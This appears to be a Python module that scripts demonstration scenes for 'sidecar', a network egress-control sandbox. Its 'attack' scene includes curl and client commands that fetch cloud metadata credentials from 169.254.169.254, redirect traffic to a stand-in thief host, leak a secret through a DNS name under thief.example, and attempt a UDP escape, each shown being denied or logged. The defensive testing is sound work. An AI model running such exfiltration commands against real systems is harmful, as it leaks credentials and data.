"""What is shown: commands, the clients that they run, and what each of these should meet."""

from __future__ import annotations

import shlex
import shutil
from dataclasses import dataclass, field
from ipaddress import ip_address
from typing import TYPE_CHECKING

from sidecar.addresses import SocketAddress
from sidecar.cli.demo.origins import Kind, Server

if TYPE_CHECKING:
    from collections.abc import Mapping

__all__ = ["HOSTS", "SERVERS", "Scene", "Step", "hosts", "scenes"]

_FETCH = ("curl", "-sS")
_STAND_IN = ("python3", "client.py", "get")
_PREAMBLE = """\
python3() { "$PYTHON" -I "$@"; }
run() {
    printf '$ %s\\n' "$*${NOTE:+  # $NOTE}"
    "$@"
    echo "$?" >> "$STATUSES"
    read -r _ < go
}
"""

# In a network without a way out, whosever these are elsewhere.
_INDEX = Server(Kind.HTTP, SocketAddress("9.9.9.1", 80), "index: wheel")
_REGISTRY = Server(Kind.HTTPS, SocketAddress("9.9.9.2", 443), "the real registry's wheel")
_MAIL = Server(Kind.GREETING, SocketAddress("2600:9::25", 25), "220 mail.example speaks first")
_MAIL_4 = Server(Kind.GREETING, SocketAddress("9.9.9.25", 25), _MAIL.text)
_CLOUD = Server(Kind.HTTP, SocketAddress("169.254.169.254", 80), "the machine's credentials")
_THIEF = Server(Kind.HTTPS, SocketAddress("6.6.6.6", 443), "the thief says thanks")
_THIEF_UDP = Server(Kind.DATAGRAMS, SocketAddress("6.6.6.6", 443), _THIEF.text)
_TELLING_NAME = "mzxw6ytboi.thief.example"

SERVERS = (_INDEX, _REGISTRY, _MAIL, _MAIL_4, _CLOUD, _THIEF, _THIEF_UDP)
"""All servers; some are of an IP version that there may not be."""

HOSTS = {
    "index.example": (_INDEX,),
    "registry.example": (_REGISTRY,),
    "mail.example": (_MAIL, _MAIL_4),
    "thief.example": (_THIEF,),
    _TELLING_NAME: (_THIEF,),
}
"""Which names lead to which."""


@dataclass(frozen=True)
class Step:
    """One client on its way.

    Attributes:
        words: The client, as a program with its arguments.
        reaches: Where it gets to without sidecar; None for nowhere.
        allowed: Where it gets to with sidecar; None for nowhere.
        asks: A name that the name server hears of without sidecar.
        line: What the access log should say of it; empty if there should be no line.
        shown: What sidecar should say of it on standard error.
        fails: Whether the client should say that it failed, with sidecar.
        note: What it is about, in two or three words.
    """

    words: tuple[str, ...]
    reaches: Server | None = None
    allowed: Server | None = None
    asks: str = ""
    line: Mapping[str, str | None] = field(default_factory=dict)
    shown: str = ""
    fails: bool = False
    note: str = ""


@dataclass(frozen=True)
class Scene:
    """One command, run by `sidecar exec`.

    Attributes:
        title: What it is about.
        name: Of the script.
        options: Of `sidecar exec`.
        steps: What the script does.
        status: Which exit status it should have.
        claim: What holds if everything is as it should be, in words.
    """

    title: str
    name: str
    options: tuple[str, ...]
    steps: tuple[Step, ...]
    status: int
    claim: str

    @property
    def arguments(self) -> tuple[str, ...]:
        """What `sidecar` is given."""
        log = ("--log", self.log)
        return ("exec", *self.options, *log, "--", "sh", f"{self.name}.sh")

    @property
    def log(self) -> str:
        """The name of the access log."""
        return f"{self.name}.jsonl"

    @property
    def script(self) -> str:
        """The text of the script."""
        lines = [
            f"NOTE={shlex.quote(step.note)}\nrun {shlex.join(step.words)}" for step in self.steps
        ]
        return "\n".join([_PREAMBLE, *lines, "exit 0\n"])


def hosts(versions: frozenset[int]) -> dict[str, tuple[Server, ...]]:
    """Which names lead where: to one IP version each, and IPv6 where there is a choice.

    Args:
        versions: The IP versions that there are.
    """
    return {
        name: tuple(each for each in servers if _version(each) in versions)[:1]
        for name, servers in HOSTS.items()
    }


def _version(server: Server) -> int:
    return ip_address(server.address.host).version


def scenes(versions: frozenset[int]) -> tuple[Scene, ...]:
    """Everything that is shown, in order.

    Args:
        versions: The IP versions that there are.
    """
    fetch = _fetch()
    (mail,) = hosts(versions)["mail.example"]
    to_thief = ("--connect-to", f"::{_THIEF.address.host}:")
    return (
        Scene(
            "What does it connect to? All that is public is allowed, and shown.",
            "build",
            (),
            (
                _let((*fetch, "http://index.example/"), _INDEX, "index.example"),
                _let(("python3", "client.py", "hear", "mail.example", "25"), mail, "mail.example"),
                Step(
                    (*fetch, "http://169.254.169.254/credentials"),
                    _CLOUD,
                    line=_denied(_CLOUD, "metadata"),
                    shown="--allow 169.254.169.254:80",
                ),
            ),
            0,
            "two reached their servers, through sidecar and unchanged; the third nobody",
        ),
        Scene(
            "Let it reach what it needs. Without sidecar, all that it tries here arrives.",
            "attack",
            (
                *("--default", "deny", "--allow", "registry.example:443"),
                *("--fail-on-deny", "--summary", "none"),
            ),
            (
                Step(
                    (*fetch, *to_thief, "https://registry.example/wheel"),
                    _THIEF,
                    _REGISTRY,
                    line={
                        "destination": str(_THIEF.address),
                        "host": "registry.example",
                        "verdict": "allow",
                        "upstream": str(_REGISTRY.address),
                    },
                    shown="allow registry.example:443",
                    note="lies",
                ),
                Step(
                    (*fetch, *to_thief, "https://thief.example/"),
                    _THIEF,
                    line=_denied(_THIEF, "default", "thief.example"),
                    shown="--allow thief.example:443",
                    fails=True,
                    note="another host",
                ),
                Step(
                    ("python3", "client.py", "look-up", _TELLING_NAME),
                    asks=_TELLING_NAME,
                    shown=f"--allow {_TELLING_NAME}",
                    fails=True,
                    note="a secret in a name",
                ),
                Step(
                    ("python3", "client.py", "escape", _THIEF.address.host, "443"),
                    _THIEF_UDP,
                    shown="client.py: UDP: Connection refused, raw:",
                    fails=True,
                    note="neither TCP nor DNS",
                ),
            ),
            77,
            "exit status 77; the lie led to the real registry; nothing else arrived anywhere",
        ),
    )


def _fetch() -> tuple[str, ...]:
    # A snap makes namespaces of its own, and so can't be run in others'.
    found = shutil.which("curl")
    return _FETCH if found is not None and "/snap/" not in found else _STAND_IN


def _let(words: tuple[str, ...], server: Server, host: str) -> Step:
    address = str(server.address)
    return Step(
        words,
        server,
        server,
        line={
            "destination": address,
            "host": host,
            "verdict": "allow",
            "upstream": address,
            "end": "closed",
        },
        shown=f"allow {host}:{server.address.port}",
    )


def _denied(server: Server, reason: str, host: str | None = None) -> dict[str, str | None]:
    return {
        "destination": str(server.address),
        "host": host,
        "verdict": "deny",
        "reason": reason,
        "upstream": None,
        "end": "denied",
    }
